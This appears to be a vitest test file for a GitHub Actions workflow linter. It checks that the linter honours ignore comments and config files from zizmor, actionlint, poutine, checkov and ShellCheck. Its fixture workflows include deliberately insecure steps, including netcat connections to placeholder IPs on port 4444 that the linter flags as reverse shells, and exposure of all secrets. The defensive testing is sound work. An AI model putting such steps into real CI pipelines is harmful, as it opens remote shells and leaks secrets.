import { expect, it } from 'vitest';
import { source } from '../server/src/core/rule.js';
import { checkFiles } from '../server/src/index.js';

// What is written for zizmor, actionlint, poutine, ShellCheck and checkov holds for us as well.

const path = '.github/workflows/ci.yml';

/** Where the rules of some names report, as `line rule`, in the profile that has all rules. */
async function found(
  text: string,
  rules: readonly string[],
  files: Readonly<Record<string, string>> = {},
  at = path,
): Promise<readonly string[]> {
  const { files: results } = await checkFiles({ ...files, [at]: text }, { profile: 'all' });
  const diagnostics = results.find((one) => one.path === at)?.diagnostics ?? [];
  return diagnostics
    .filter(({ rule }) => rules.some((name) => rule === `github/${name}`))
    .map(({ rule, range }) => `${range.start.line + 1} ${rule.slice('github/'.length)}`);
}

const workflow = source`
  on: push
  permissions: {}
  jobs:
    build:
      runs-on: ubuntu-latest
      steps:
        - name: install
          run: |
            npm install lodash
        - run: npm install vite
          env:
            ALL: \${{ toJSON(secrets) }}
            KEY: \${{ secrets.KEY }}
    gpu:
      runs-on: gpu-9
      steps:
        - uses: example/tool@v1
`;

it('finds all of it without settings', async () => {
  const rules = ['adhoc-packages', 'overprovisioned-secrets', 'secrets-outside-env', 'forbidden-uses'];
  expect(await found(workflow, rules)).toEqual([
    '9 adhoc-packages',
    '10 adhoc-packages',
    '12 overprovisioned-secrets',
    '13 secrets-outside-env',
  ]);
});

it('takes a comment of zizmor for as much as zizmor does', async () => {
  const commented = workflow
    .replace('run: |', 'run: | # zizmor: ignore[adhoc-packages]')
    .replace('ALL:', '# zizmor: ignore[overprovisioned-secrets]\n          ALL:')
    .replace('  build:', '  build:\n    # zizmor: ignore[secrets-outside-env, self-hosted-runner] reviewed');
  const rules = ['adhoc-packages', 'overprovisioned-secrets', 'secrets-outside-env'];
  expect(await found(commented, rules)).toEqual(['11 adhoc-packages']);
  const other = workflow.replace('env:', 'env: # zizmor: ignore[overprovisioned-secrets]');
  expect(await found(other, rules)).toContain('12 overprovisioned-secrets');
  const named = workflow.replace('- name: install', '- name: install # v1 # zizmor: ignore[adhoc-packages]');
  expect(await found(named, rules)).not.toContain('9 adhoc-packages');
});

it('takes settings of zizmor: off, per file, per line, levels and options', async () => {
  const settings = (text: string) => ({ '.github/zizmor.yml': `rules:\n${text}` });
  const rules = ['adhoc-packages', 'secrets-outside-env', 'forbidden-uses'];
  const get = (text: string) => found(workflow, rules, settings(text));
  expect(await get('  adhoc-packages: { disable: true }\n')).toEqual(['13 secrets-outside-env']);
  expect(await get('  adhoc-packages: { ignore: [ci.yml] }\n')).toEqual(['13 secrets-outside-env']);
  expect(await get('  adhoc-packages: { ignore: [other.yml, ci.yml:10] }\n')).not.toContain('10 adhoc-packages');
  expect(await get('  adhoc-packages: { ignore: [ci.yml:7] }\n')).toEqual([
    '10 adhoc-packages',
    '13 secrets-outside-env',
  ]);
  expect(await get('  adhoc-packages: { ignore: ["ci.yml:10:12", "ci.yml:9:1"] }\n')).toContain('9 adhoc-packages');
  expect(await get('  secrets-outside-env: { config: { allow: [key] } }\n')).not.toContain('13 secrets-outside-env');
  expect(await get('  forbidden-uses: { config: { deny: ["example/*"] } }\n')).toContain('17 forbidden-uses');
  expect(await get('  forbidden-uses: { config: { allow: ["actions/*"] } }\n')).toContain('17 forbidden-uses');
  const { files } = await checkFiles(
    { [path]: workflow, ...settings('  adhoc-packages: { remap: { severity: high } }\n') },
    { profile: 'all' },
  );
  const adhoc = files.flatMap(({ diagnostics }) => diagnostics.filter(({ rule }) => rule === 'github/adhoc-packages'));
  expect(adhoc.map(({ severity }) => severity)).toEqual(['error', 'error']);
});

it('takes settings of actionlint: labels and messages', async () => {
  const rules = ['unknown-runner-label'];
  const get = (text: string) => found(workflow, rules, { '.github/actionlint.yaml': text });
  expect(await found(workflow, rules)).toEqual(['15 unknown-runner-label']);
  expect(await get('self-hosted-runner: { labels: ["gpu-*"] }\n')).toEqual([]);
  expect(await get('paths: { ".github/workflows/*.yml": { ignore: ["gpu-[0-9]+"] } }\n')).toEqual([]);
  expect(await get('paths: { "**/ci.yml": { ignore: [runner-label] } }\n')).toEqual([]);
  expect(await get('paths: { "**/other.yml": { ignore: [runner-label] } }\n')).toEqual(['15 unknown-runner-label']);
  expect(await get('paths: { "**": { ignore: ["(", "other"] } }\n')).toEqual(['15 unknown-runner-label']);
});

it('takes settings of poutine: what is skipped, and runners for pull requests', async () => {
  const text = source`
    on: pull_request
    permissions: {}
    env: { ACTIONS_STEP_DEBUG: true }
    jobs:
      build: { runs-on: [self-hosted, gpu], steps: [run: make] }
  `;
  const rules = ['debug-enabled', 'self-hosted-runner'];
  const get = (settings: string) => found(text, rules, { '.poutine.yml': settings });
  expect(await found(text, rules)).toEqual(['3 debug-enabled', '5 self-hosted-runner']);
  expect(await get('skip: [{ rule: debug_enabled }]\n')).toEqual(['5 self-hosted-runner']);
  expect(await get('skip: [{ level: note }]\n')).toEqual(['5 self-hosted-runner']);
  expect(await get('skip: [{ level: note, path: other.yml }]\n')).toContain('3 debug-enabled');
  expect(await get('skip: [{ rule: debug_enabled, job: build }]\n')).toContain('3 debug-enabled');
  expect(await get(`skip: [{ path: [${path}] }]\n`)).toEqual([]);
});

it('takes comments of checkov in the job or step that they are about', async () => {
  const text = source`
    on: push
    permissions: {}
    jobs:
      build:
        runs-on: ubuntu-latest
        steps:
          # checkov:skip=CKV_GHA_4:a lab
          - run: nc 203.0.113.7 4444
          - run: nc 203.0.113.8 4444
      other:
        runs-on: ubuntu-latest
        steps: [run: nc 203.0.113.9 4444]
  `;
  expect(await found(text, ['reverse-shell'])).toEqual(['9 reverse-shell', '12 reverse-shell']);
  const all = `# checkov:skip=CKV_GHA_4:a lab\n${text.replace(/ *# checkov.*\n/, '')}`;
  expect(await found(all, ['reverse-shell'])).toEqual([]);
});

it('takes directives of ShellCheck in scripts', async () => {
  const text = (directive: string) => source`
    on: push
    permissions: {}
    jobs:
      build:
        runs-on: ubuntu-latest
        steps:
          - run: |
              make
              ${directive}
              cat $FILE
  `;
  const { files } = await checkFiles({ [path]: text('echo') }, { profile: 'all' });
  const codes = files.flatMap(({ diagnostics }) => diagnostics.flatMap(({ aliases }) => aliases));
  if (!codes.includes('shellcheck:SC2086')) return;
  const silenced = await checkFiles({ [path]: text('# shellcheck disable=SC2086') }, { profile: 'all' });
  const left = silenced.files.flatMap(({ diagnostics }) => diagnostics.flatMap(({ aliases }) => aliases));
  expect(left).not.toContain('shellcheck:SC2086');
});
